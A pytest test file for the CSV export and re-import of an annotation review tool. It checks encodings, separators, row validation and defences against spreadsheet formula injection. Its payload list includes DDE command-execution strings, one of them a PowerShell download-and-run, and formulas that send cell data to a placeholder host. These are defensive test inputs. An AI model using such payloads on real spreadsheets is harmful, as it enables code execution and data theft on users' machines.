from __future__ import annotations

import csv
import io
import re
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ascn_nlp.errors import ReviewError
from ascn_nlp.records import STANCES, Decision
from ascn_nlp.review.cells import CELL_LIMIT, TAKEN_FOR, UNSAVED, shield, unshield
from ascn_nlp.review.columns import COLUMNS, DECISIONS, REVIEWER_COLUMNS, row_check, wide_columns
from ascn_nlp.review.decisions import Parsed, parse
from ascn_nlp.review.delimited import read_csv, to_csv
from ascn_nlp.review.rows import Row

CONCERNS = ("surveillance", "privacy", "debt")
# What begins a formula, from OWASP's page on CSV injection, in the ways it is hidden from a simple check.
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=", "-", "+", "@", "\t", "\r", "\n"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "\u3000＠SUM(1)"),
    *(
        " =1+1",
        "   =1+1",
        "\u00a0=1+1",
        "\u2003=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u2060 \u200d=1+1",
        "\v=1",
        "\x1f=1",
    ),
    *(
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget x)'!A0",
    ),
    *('=HYPERLINK("https://evil.example/?"&A1,"Click")', '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'),
    *('=IMPORTDATA("https://evil.example/")', '=WEBSERVICE("https://evil.example/"&A1)', '=DDE("cmd";"/C calc";"x")'),
    *(
        '=1+1";=1+1',
        "=1+1;=1+1",
        '=1+1","=1+1',
        "=1+1\n=1+1",
        "=1+1'",
        "'=1+1",
        "''=1+1",
        "'''\t=1",
        "' =1+1",
        "'-",
        "''@",
    ),
    *("-5 degrees", "+65 6123 4567", "@ministry said", "- a list item", "=\u0000=1", "\u0000=1+1"),
)


def rows_of(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


def row(concern: str = "surveillance", passage: str = "p1", **cells: str) -> dict[str, str]:
    ids = {"passage_id": passage, "document_id": "d1", "concern": concern}
    return {**ids, "row_check": row_check(passage, "d1", concern), "quote": "Cameras watch, they say"} | cells


def file(*rows: dict[str, str]) -> bytes:
    return "".join(to_csv(COLUMNS, map(Row, rows))).encode("utf-8")


def parse_csv(content: bytes, concerns=CONCERNS) -> Parsed:
    return parse(read_csv(content), concerns)


def said(*rows: dict[str, str]) -> Parsed:
    return parse_csv(file(*rows))


def saved(rows, separator: str = ",", encoding: str = "utf-8-sig", ends: str = "\r\n", quoting: int = 0) -> bytes:
    """The rows as a spreadsheet program may save them."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=separator, lineterminator=ends, quoting=quoting).writerows(rows)
    return buffer.getvalue().encode(encoding)


ACCEPTED = Decision("p1", "d1", "surveillance", "accept", "", "", "", "ann")


# What goes out


def test_a_file_begins_with_a_byte_order_mark_and_ends_its_lines_as_rfc_4180_says():
    content = file(row(), row("privacy"))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == 3
    assert content.count(b"\n") == 3
    assert content.endswith(b"\r\n")


def test_without_rows_there_is_still_a_header():
    assert rows_of(file().decode()) == [list(COLUMNS)]


def test_the_reviewers_columns_come_first_and_no_column_twice():
    assert COLUMNS[: len(REVIEWER_COLUMNS)] == REVIEWER_COLUMNS
    assert len(set(COLUMNS)) == len(COLUMNS)


def test_every_cell_is_quoted_so_that_another_separator_splits_none():
    content = file(row(note="one;=1+1\t=2+2"))
    assert all(re.fullmatch(r'("[^"]*",?)+', line) for line in content.decode("utf-8-sig").split("\r\n") if line)


@pytest.mark.parametrize("payload", FORMULAS)
@pytest.mark.parametrize("column", ["quote", "note", "doc_title"])
def test_no_cell_of_a_file_begins_a_formula(payload, column):
    [_, cells] = rows_of(file(row(**{column: payload})).decode())
    for cell in cells:
        bare = cell.strip(" \u00a0\u2003\u3000\u200b\u200d\u2060\ufeff\v\f\x1f")
        assert not bare.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_shielded_formula_is_what_it_was_when_it_comes_back(payload):
    assert unshield(shield(payload)) == payload.replace("\x00", "")


@pytest.mark.parametrize("text", ["", "Words", "5 - 3", "a=b", "'quoted' words", "'", "''", "it's", "1", " words"])
def test_a_harmless_cell_is_left_as_it_is(text):
    assert shield(text) == unshield(text) == text


_any_text = st.text(st.characters(exclude_categories=["Cs"]))
_risky = st.text(st.sampled_from("'=+-@\t\r\n ＝\u200b\ufeff\u00a0\",;ax"), max_size=8)


@given(st.one_of(_any_text, _risky))
@settings(max_examples=300)
def test_any_cell_comes_back_from_a_file_as_it_went_in(text):
    [_, cells] = rows_of("".join(to_csv(COLUMNS, [Row(row(note=text))])))
    assert unshield(cells[COLUMNS.index("note")]) == text.replace("\x00", "")


@given(st.lists(_any_text, min_size=len(COLUMNS), max_size=len(COLUMNS)))
@settings(max_examples=50)
def test_any_row_comes_back_from_a_file_as_it_went_in(texts):
    [header, cells] = rows_of("".join(to_csv(COLUMNS, [Row(dict(zip(COLUMNS, texts, strict=True)))])))
    assert header == list(COLUMNS)
    assert [unshield(cell) for cell in cells] == [text.replace("\x00", "") for text in texts]


@pytest.mark.parametrize("begin", ["", "="])
def test_a_cell_too_long_for_a_spreadsheet_is_cut_where_one_can_see_it(begin):
    assert len(shield(begin + "x" * (CELL_LIMIT - 2))) <= CELL_LIMIT
    cell = shield(begin + "x" * (CELL_LIMIT + 1))
    assert len(cell) == CELL_LIMIT
    assert "cut here" in cell
    assert shield("x" * CELL_LIMIT) == "x" * CELL_LIMIT


# What comes back


def test_decisions_come_back_with_the_ids_they_went_out_with():
    given_row = row(
        decision="accept", stance_reviewed="described", note="= a note, “odd”\nof two lines", reviewer="ann"
    )
    parsed = said(given_row, row("privacy"), row("debt", reviewer="ann"))
    assert parsed.decisions == (
        Decision("p1", "d1", "surveillance", "accept", "", "described", "= a note, “odd”\nof two lines", "ann"),
    )
    assert (parsed.undecided, parsed.refused) == (2, ())


def test_the_machines_columns_are_not_read_back():
    one = said(row(decision="accept", reviewer="ann", stance="nonsense", score="x", quote="changed", run_id="?"))
    assert one.decisions == (ACCEPTED._replace(run_id="?"),)


GRID = rows_of(file(row(decision="accept", reviewer="ann", quote="Đường — “ñ”, é")).decode())
LATIN = rows_of(file(row(decision="accept", reviewer="ann", quote="caf\xe9 – “x”", note="d\xe9j\xe0")).decode())


@pytest.mark.parametrize("ends", ["\r\n", "\n", "\r"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "utf-16", "utf-16-be-bom"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_ALL])
def test_files_are_taken_as_spreadsheet_programs_save_them(separator, encoding, ends, quoting):
    if encoding == "utf-16-be-bom":
        content = b"\xfe\xff" + saved(GRID, separator, "utf-16-be", ends, quoting)
    else:
        content = saved(GRID, separator, encoding, ends, quoting)
    assert parse_csv(content, CONCERNS).decisions == (ACCEPTED,)


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_file_in_windows_western_letters_is_taken(separator):
    [one] = parse_csv(saved(LATIN, separator, "cp1252"), CONCERNS).decisions
    assert one.note == "d\xe9j\xe0"


def test_a_long_file_is_taken_in_any_encoding():
    # The separator is told from the beginning of the file, which must not be cut within a letter.
    rows = [row(passage=f"p{n}", decision="accept", reviewer="ก" * n) for n in range(200)]
    grid = rows_of(file(*rows).decode())
    for encoding in ("utf-8-sig", "utf-16"):
        assert len(parse_csv(saved(grid, ";", encoding), CONCERNS).decisions) == 200


def test_columns_may_be_moved_added_renamed_in_case_and_left_out():
    [header, cells] = GRID
    by_name = dict(zip(header, cells, strict=True))
    left = ["row_check", "Concern ", "REVIEWER", "passage_id", "document_id", " Decision"]
    for wanted in (left, ["my own; column", "NOTE", *left, "concern_reviewed", "Stance_Reviewed"]):
        moved = [by_name.get(name.strip().lower(), "mine") for name in wanted]
        for separator in (",", ";", "\t"):
            assert parse_csv(saved([wanted, moved], separator), CONCERNS).decisions == (ACCEPTED,)


def test_blank_rows_and_short_rows_are_passed_over():
    [header, cells] = GRID
    blank = [""] * len(header)
    parsed = parse_csv(saved([header, blank, [], [" "], cells, blank[:3], []]), CONCERNS)
    assert (parsed.decisions, parsed.undecided, parsed.refused) == ((ACCEPTED,), 0, ())


@pytest.mark.parametrize(
    "word", ["accept ", " Accept", "ACCEPT", "“accept”", "'accept'", '"accept"', "\u00a0accept\u00a0", "‘accept’ "]
)
def test_a_decision_may_be_dressed_as_a_word_processor_dresses_it(word):
    assert said(row(decision=word, reviewer="ann")).decisions == (ACCEPTED,)


@pytest.mark.parametrize("word", ["privacy ", "“privacy”", "Privacy", "’privacy’"])
def test_a_concern_may_be_dressed_too(word):
    [one] = said(row(decision="reject", concern_reviewed=word, stance_reviewed="“Raised” ")).decisions
    assert (one.concern_reviewed, one.stance_reviewed) == ("privacy", "raised")


@pytest.mark.parametrize("decision", DECISIONS)
def test_every_decision_is_taken(decision):
    assert said(row(decision=decision)).decisions[0].decision == decision


@pytest.mark.parametrize("stance", STANCES)
def test_every_stance_is_taken(stance):
    assert said(row(decision="accept", stance_reviewed=stance)).decisions[0].stance_reviewed == stance


REFUSED = [
    ({"decision": "yes"}, ("'yes'", ", ".join(DECISIONS))),
    ({"decision": "accept reject"}, ("'accept reject'", "accept, reject")),
    ({"concern_reviewed": "privacy"}, ("decision is ''", "accept", "of a merged cell only the first row counts")),
    *[({"decision": word, "note": word}, (repr(word.lower()), "na=''", "na_rep=''")) for word in ("NA", "NaN", "NULL")],
    ({"decision": "accept", "concern_reviewed": "NA", "stance_reviewed": "NA"}, ("concern_reviewed", "na_rep=''")),
    *[({"decision": "accept", "reviewer": word}, ("reviewer", word, "na_rep=''")) for word in ("NA", "NaN", "NULL")],
    ({"stance_reviewed": "raised"}, ("decision is ''", "accept")),
    ({"note": "look at this again"}, ("decision is ''", "accept")),
    ({"decision": "reject", "concern_reviewed": "privvacy"}, ("'privvacy'", ", ".join(CONCERNS))),
    ({"decision": "accept", "stance_reviewed": "angry"}, ("'angry'", ", ".join(STANCES))),
    ({"decision": "accept", "passage_id": "p2"}, ("row_check", "export again")),
    ({"decision": "accept", "document_id": "d2"}, ("row_check", "export again")),
    (
        {"decision": "accept", "concern": "privacy", "row_check": row_check("p1", "d1", "debt")},
        ("row_check", "export again"),
    ),
    ({"decision": "accept", "row_check": "c0000000"}, ("row_check", "export again")),
    ({"decision": "accept", "passage_id": "1E+15"}, ("row_check", "export again")),
    ({"decision": "accept", "row_check": ""}, ("row_check", "export again")),
    ({"decision": "accept", "concern": "", "row_check": row_check("p1", "d1", "")}, ("concern_reviewed",)),
]


@pytest.mark.parametrize(("cells", "wanted"), REFUSED)
def test_a_row_that_cannot_be_taken_is_listed_by_its_number_and_the_others_are_taken(cells, wanted):
    parsed = said(row("debt"), row(**cells), row("privacy", decision="accept", reviewer="ann"))
    assert [one.concern for one in parsed.decisions] == ["privacy"]
    [refused] = parsed.refused
    assert refused.row == 3
    assert all(part in refused.reason for part in wanted)


def test_rows_count_as_a_spreadsheet_shows_them_whatever_their_cells_hold():
    parsed = said(
        row("debt", quote="two\nlines"),
        row(decision="yes", quote="three\r\nmore\rlines"),
        row("privacy", decision="no"),
    )
    assert [one.row for one in parsed.refused] == [3, 4]


def test_a_missed_concern_is_added_to_a_row_without_one():
    blank = {"concern": "", "row_check": row_check("p1", "d1", "")}
    parsed = said(
        row(**blank, decision="accept", concern_reviewed="debt"),
        row(**blank, decision="accept", concern_reviewed="privacy"),
    )
    assert [(one.concern, one.concern_reviewed) for one in parsed.decisions] == [("", "debt"), ("", "privacy")]


def test_the_same_row_twice_is_one_decision():
    assert len(said(row(decision="accept"), row(decision="accept"), row(decision="Accept ")).decisions) == 1


@pytest.mark.parametrize("change", [{"decision": "reject"}, {"stance_reviewed": "described"}, {"note": "other"}])
def test_rows_that_contradict_each_other_are_all_refused_since_neither_can_be_guessed(change):
    one = row(decision="accept", reviewer="ann")
    parsed = said(one, row("privacy", decision="accept"), one | change, one)
    assert [one.concern for one in parsed.decisions] == ["privacy"]
    assert [refused.row for refused in parsed.refused] == [2, 4, 5]
    assert "contradicts row 4, 5" in parsed.refused[0].reason
    assert "row 2, 5" in parsed.refused[1].reason
    assert all("surveillance" in refused.reason for refused in parsed.refused)


def test_two_reviewers_do_not_contradict_each_other():
    parsed = said(row(decision="accept", reviewer="ann"), row(decision="reject", reviewer="bo"))
    assert [one.decision for one in parsed.decisions] == ["accept", "reject"]


def workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("xl/workbook.xml", "<workbook/>" * 100)
    return buffer.getvalue()


NO_REVIEWS = {
    "nothing": b"",
    "a mark alone": b"\xef\xbb\xbf",
    "blank lines": b"\r\n\r\n",
    "words": b"These are my notes, and no table.\n",
    "another table": b"decision,name\r\naccept,ann\r\n",
    "a workbook": workbook(),
    "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
    "zeros": bytes(5000),
    "noise": bytes(range(256)) * 40,
    "a cell without end": b'"' + b"x" * 200_000,
    "a half UTF-16 letter": b"\xff\xfed",
    "a row without end": file(row()) + b'"' + b"x" * 200_000,
    "a renamed id": file(row()).replace(b'"passage_id"', b'"passage"'),
    "a column twice": file(row()).replace(b'"note"', b'"decision"', 1),
}


@pytest.mark.parametrize("content", NO_REVIEWS.values(), ids=NO_REVIEWS)
def test_a_file_that_is_no_review_is_refused_whole_with_a_remedy(content):
    with pytest.raises(ReviewError) as caught:
        parse_csv(content, CONCERNS)
    assert caught.value.remedy


@given(st.binary(max_size=300))
def test_no_bytes_bring_anything_but_a_review_error(content):
    for tried in (content, file(row(decision="accept")) + content, b"\xff\xfe" + content):
        with suppress(ReviewError):
            parse_csv(tried, CONCERNS)


def test_the_check_of_a_row_tells_ids_and_concern_apart_and_looks_like_no_number():
    checks = {
        row_check("p1", "d1", "a"),
        row_check("p1d", "1", "a"),
        row_check("p1", "d1", ""),
        row_check("d1", "p1", "a"),
    }
    assert len(checks) == 4
    assert all(re.fullmatch("c[0-9a-f]{8}", check) for check in checks)


def test_a_file_exported_again_with_its_decisions_says_the_same():
    rows = [row(decision="accept", reviewer="ann", note=payload, passage=f"p{n}") for n, payload in enumerate(FORMULAS)]
    again = [
        row(decision=one.decision, reviewer=one.reviewer, note=one.note, passage=one.passage_id)
        for one in said(*rows).decisions
    ]
    assert said(*again).decisions == said(*rows).decisions
    assert len(again) == len(FORMULAS)


# What looks like nothing and says something


def wide(*rows: dict[str, str]) -> Parsed:
    return parse_csv("".join(to_csv(wide_columns(CONCERNS), map(Row, rows))).encode())


def wide_row(shown: str = "", passage: str = "p1", **cells: str) -> dict[str, str]:
    check = row_check(passage, "d1", shown)
    return {"passage_id": passage, "document_id": "d1", "shown": shown, "row_check": check, **cells}


WIDE_REFUSED = {
    "a word that is none": ({"privacy": "perhaps"}, "'perhaps'"),
    "a mark for what stands above": ({"privacy": '"'}, "privacy is '\"'"),
    "a mark in read_whole": ({"read_whole": '"'}, "read_whole is"),
    "yes to what was not predicted": ({"debt": "yes"}, "write one of: raised"),
    "read whole, and a prediction left": ({"read_whole": "yes"}, "nothing is said of privacy"),
    "a note alone": ({"note": "see"}, "no decision"),
    "a note, and not read whole": ({"note": "see", "read_whole": "no"}, "no decision"),
    "what was shown is edited": ({"privacy": "no", "shown": "debt"}, "no longer belong together"),
    "what was shown is emptied": ({"privacy": "no", "shown": ""}, "no longer belong together"),
}


@pytest.mark.parametrize(("cells", "wanted"), WIDE_REFUSED.values(), ids=WIDE_REFUSED)
def test_a_wide_row_that_cannot_be_taken_is_listed(cells, wanted):
    parsed = wide(wide_row(passage="p2"), wide_row("privacy") | cells)
    assert (parsed.decisions, parsed.undecided) == ((), 1)
    [refused] = parsed.refused
    assert refused.row == 3
    assert wanted in refused.reason


@pytest.mark.parametrize("word", ["no", "No ", "withdraw"])
def test_who_says_that_a_passage_was_not_read_whole_takes_back_that_it_was(word):
    parsed = wide(wide_row("privacy", read_whole=word, reviewer="ann"))
    assert [(one.concern, one.decision, one.concern_reviewed) for one in parsed.decisions] == [("", "withdraw", "")]
    assert (parsed.undecided, parsed.refused) == (0, ())


def test_one_person_cannot_say_two_things_of_a_concern_in_rows_on_different_things():
    rejected, added = row("debt", decision="reject"), row("debt", decision="accept", concern_reviewed="debt")
    rows = rows_of(file(rejected, added, row("privacy", decision="accept")).decode())
    rows[2][rows[0].index("concern")] = ""
    parsed = parse(rows, CONCERNS)
    assert [(one.row, "debt" in one.reason) for one in parsed.refused] == [(2, True), (3, True)]
    assert [one.concern for one in parsed.decisions] == ["privacy"]


@pytest.mark.parametrize("mark", ['"', "''", "“ ”", ".", "-"])
@pytest.mark.parametrize("column", ["decision", "concern_reviewed", "stance_reviewed"])
def test_a_mark_for_what_stands_above_is_refused_and_not_passed_over(column, mark):
    parsed = said(row("debt", decision="accept"), row(**({"decision": "accept"} | {column: mark})))
    assert [one.row for one in parsed.refused] == [3]
    assert column in parsed.refused[0].reason


@pytest.mark.parametrize("cell", ["\u200b", " \u00a0 ", "\ufeff"])
def test_blanks_that_one_cannot_see_say_nothing(cell):
    assert said(row(decision=cell)).undecided == 1


EMPTIED = {"concern": "", "row_check": row_check("p1", "d1", "surveillance")}
ADDED = {"decision": "accept", "concern_reviewed": "debt", "reviewer": "ann"}


@pytest.mark.parametrize("original", [{}, {"decision": "reject"}, {"decision": "nonsense"}])
def test_a_copied_row_without_its_concern_adds_a_missed_one_wherever_its_original_stands(original):
    for rows in ([row(**original), row(**EMPTIED, **ADDED)], [row(**EMPTIED, **ADDED), row(**original)]):
        parsed = said(*rows)
        assert ("", "accept", "debt") in {(one.concern, one.decision, one.concern_reviewed) for one in parsed.decisions}


@pytest.mark.parametrize("words", [{"decision": "reject"}, {"decision": "unsure"}, {"decision": "withdraw"}, ADDED])
def test_a_row_that_lost_its_concern_does_not_speak_of_the_whole_passage(words):
    others = [row("privacy"), row(passage="p2")]
    parsed = said(row(**EMPTIED, **words), *others)
    assert parsed.decisions == ()
    assert [one.row for one in parsed.refused] == [2]
    assert "concern was emptied" in parsed.refused[0].reason


def test_an_emptied_row_that_names_no_missed_concern_is_refused_though_its_original_is_there():
    parsed = said(row(), row(**EMPTIED, decision="reject"))
    assert [one.row for one in parsed.refused] == [3]


RENAMED = [("concern_reviewed", "privacy"), ("stance_reviewed", "described"), ("note", "see"), ("reviewer", "ann")]


@pytest.mark.parametrize(("column", "word"), RENAMED)
def test_a_row_with_a_word_in_a_column_that_was_renamed_is_not_taken_without_it(column, word):
    content = file(row(**({"decision": "accept"} | {column: word})), row("debt", decision="reject"))
    parsed = parse_csv(content.replace(f'"{column}"'.encode(), b'"my column"', 1))
    assert [one.concern for one in parsed.decisions] == ["debt"]
    [refused] = parsed.refused
    assert refused.row == 2
    assert column in refused.reason
    assert "'my column'" in refused.reason
    assert parsed.added_columns == ("my column",)


def test_a_wide_row_with_a_word_in_a_renamed_column_is_not_taken_without_it():
    rows = [wide_row(privacy="raised", read_whole="yes"), wide_row(passage="p2", read_whole="yes")]
    content = "".join(to_csv(wide_columns(CONCERNS), map(Row, rows))).replace('"privacy"', '"Privacy of data"', 1)
    parsed = parse_csv(content.encode())
    assert [one.passage_id for one in parsed.decisions] == ["p2"]
    assert [one.row for one in parsed.refused] == [2]


def test_words_in_a_column_without_a_name_are_told():
    [header, cells] = GRID
    assert parse_csv(saved([[*header, ""], [*cells, "mine"]])).added_columns == (
        f"column {len(header) + 1}, without a name",
    )


@pytest.mark.parametrize("more", [["x"], [""], ["", ""]])
def test_a_row_of_more_cells_than_the_header_has_is_refused(more):
    [header, cells] = GRID
    parsed = parse_csv(saved([header, [*cells, *more], cells]))
    assert [one.row for one in parsed.refused] == [2]
    assert "quotation mark" in parsed.refused[0].reason
    assert parsed.decisions == (ACCEPTED,)


def test_a_row_that_a_lost_mark_has_joined_with_the_next_is_refused():
    # Of a quotation mark lost after the first note, where what the second note begins with seems to end the cell.
    first = row(decision="accept", note="one\n", reviewer="ann")
    second = row("debt", passage="p2", decision="reject", note=",two", reviewer="bo")
    names = ["decision", "note", "concern", "passage_id", "document_id", "row_check", "reviewer"]
    grid = [names, *([one[name] for name in names] for one in (first, second))]
    text = saved(grid, encoding="utf-8").decode()
    lost = text.replace('one\n",', "one\n,").replace('",two",', '","",')
    parsed = parse_csv(lost.encode())
    assert not parsed.decisions
    assert parsed.refused


def test_a_note_that_was_cut_on_its_way_out_is_refused():
    parsed = said(row(decision="accept", note="x" * (CELL_LIMIT + 1)))
    assert parsed.decisions == ()
    assert "too long" in parsed.refused[0].reason


def test_a_header_with_a_lost_mark_stops_the_import():
    with pytest.raises(ReviewError, match="quotation mark"):
        parse_csv(file(row(decision="accept")).replace(b'"heading"', b'"heading', 1))


SMART = "Ñandú – “smart”"
# Notes as reviewers write them, and words that are UTF-8 by chance where they stand alone.
NATURAL = (
    *("Ñandú – “smart”", "déjà vu à l’école, « hors sujet »", "L’ÉTAT : QUALITÉ…", "l’état", "à la cité…”", "café…»"),
    *(
        "nur Spaß…",
        "Größe „Maß“ – übrig",
        "Straße 5°",
        "Về việc này, đã xem kỹ rồi…",
        "XÃ ĐÔNG",
        "ĐÃ…",
        "Nguyễn Văn Ân",
    ),
    *("รถ", "เขต", "เดช", "ลดรถ", "ไม่ใช่เรื่องนี้…", "สมชาย ใจดี", "Dianggap ‘baik’ — belum cukup…", "Rp 5.000 – €3 ±2 %"),
    *("不是这个问题", "មិនមែន", "မဟုတ်ဘူး", "ບໍ່ແມ່ນ", "Ні", "нет – «другое»", "Łódź, żółć", "fine 👍"),
)


def taken_for(encoding: str, text: str) -> str:
    """The text as a program shows its UTF-8 in this encoding: a byte without a letter is a control character."""
    return "".join(bytes([byte]).decode(encoding, "ignore") or chr(byte) for byte in text.encode())


@pytest.mark.parametrize("encoding", ["latin-1", *TAKEN_FOR])
@pytest.mark.parametrize("column", ["note", "reviewer"])
def test_words_garbled_by_another_encoding_are_refused(encoding, column):
    garbled = taken_for(encoding, SMART)
    assert garbled != SMART
    parsed = said(row("debt", decision="accept", **{column: garbled}), row("privacy", decision="accept", note=SMART))
    assert [(one.concern, one.note) for one in parsed.decisions] == [("privacy", SMART)]
    [refused] = parsed.refused
    assert refused.row == 2
    assert refused.reason.startswith(f"{column} is garbled")
    assert "UTF-8" in refused.reason


@pytest.mark.parametrize("word", ["é", "Việt Nam", "ไม่ใช่", "不是", "မဟုတ်ဘူး", "👍"])
def test_garbled_letters_of_any_reviewer_are_known_in_windows_western(word):
    assert said(row(decision="accept", note=taken_for("cp1252", f"see {word}."))).refused


@pytest.mark.parametrize("words", NATURAL)
def test_words_that_people_write_are_not_taken_for_garbled(words):
    parsed = said(row(decision="accept", note=words, reviewer=words))
    assert not parsed.refused
    assert [(one.note, one.reviewer) for one in parsed.decisions] == [(words, words)]


def test_libreoffice_has_its_own_letters_for_bytes_without_one():
    # Of a quotation mark (E2 80 9D) and of a letter of Chinese (E4 B8 8D) in Windows-1252.
    for garbled in ("smartâ€\uf19d", "ä¸\uf18dæ˜¯"):
        assert said(row(decision="accept", note=garbled)).refused


def test_a_wide_row_with_garbled_words_is_refused():
    columns = wide_columns(CONCERNS)
    ids = {"passage_id": "p1", "document_id": "d1", "row_check": row_check("p1", "d1", "")}
    cells = {**ids, "debt": "raised", "note": taken_for("cp1252", SMART)}
    parsed = parse_csv("".join(to_csv(columns, [Row(cells)])).encode())
    assert not parsed.decisions
    assert "garbled" in parsed.refused[0].reason


def from_a_sheet(**cells: str) -> Parsed:
    """What is read of a row of a spreadsheet, whose cells come as they are."""
    return parse([list(COLUMNS), [row(**cells).get(name, "") for name in COLUMNS]], CONCERNS)


@pytest.mark.parametrize("column", REVIEWER_COLUMNS)
def test_a_formula_whose_result_was_not_saved_is_refused_by_the_name_of_its_column(column):
    parsed = from_a_sheet(**{"decision": "accept", column: UNSAVED})
    assert not parsed.decisions
    [refused] = parsed.refused
    assert refused.reason.startswith(f"{column} holds a formula whose result was not saved")
    assert "save it" in refused.reason


def test_a_formula_in_what_is_not_read_is_no_reason():
    assert not from_a_sheet(decision="accept", quote=UNSAVED).refused


@pytest.mark.parametrize("reviewer", [taken_for("cp1252", "José"), "NA", UNSAVED])
def test_a_row_that_says_nothing_is_undecided_whatever_the_reviewers_name_became(reviewer):
    parsed = from_a_sheet(reviewer=reviewer)
    assert (parsed.undecided, parsed.refused) == (1, ())
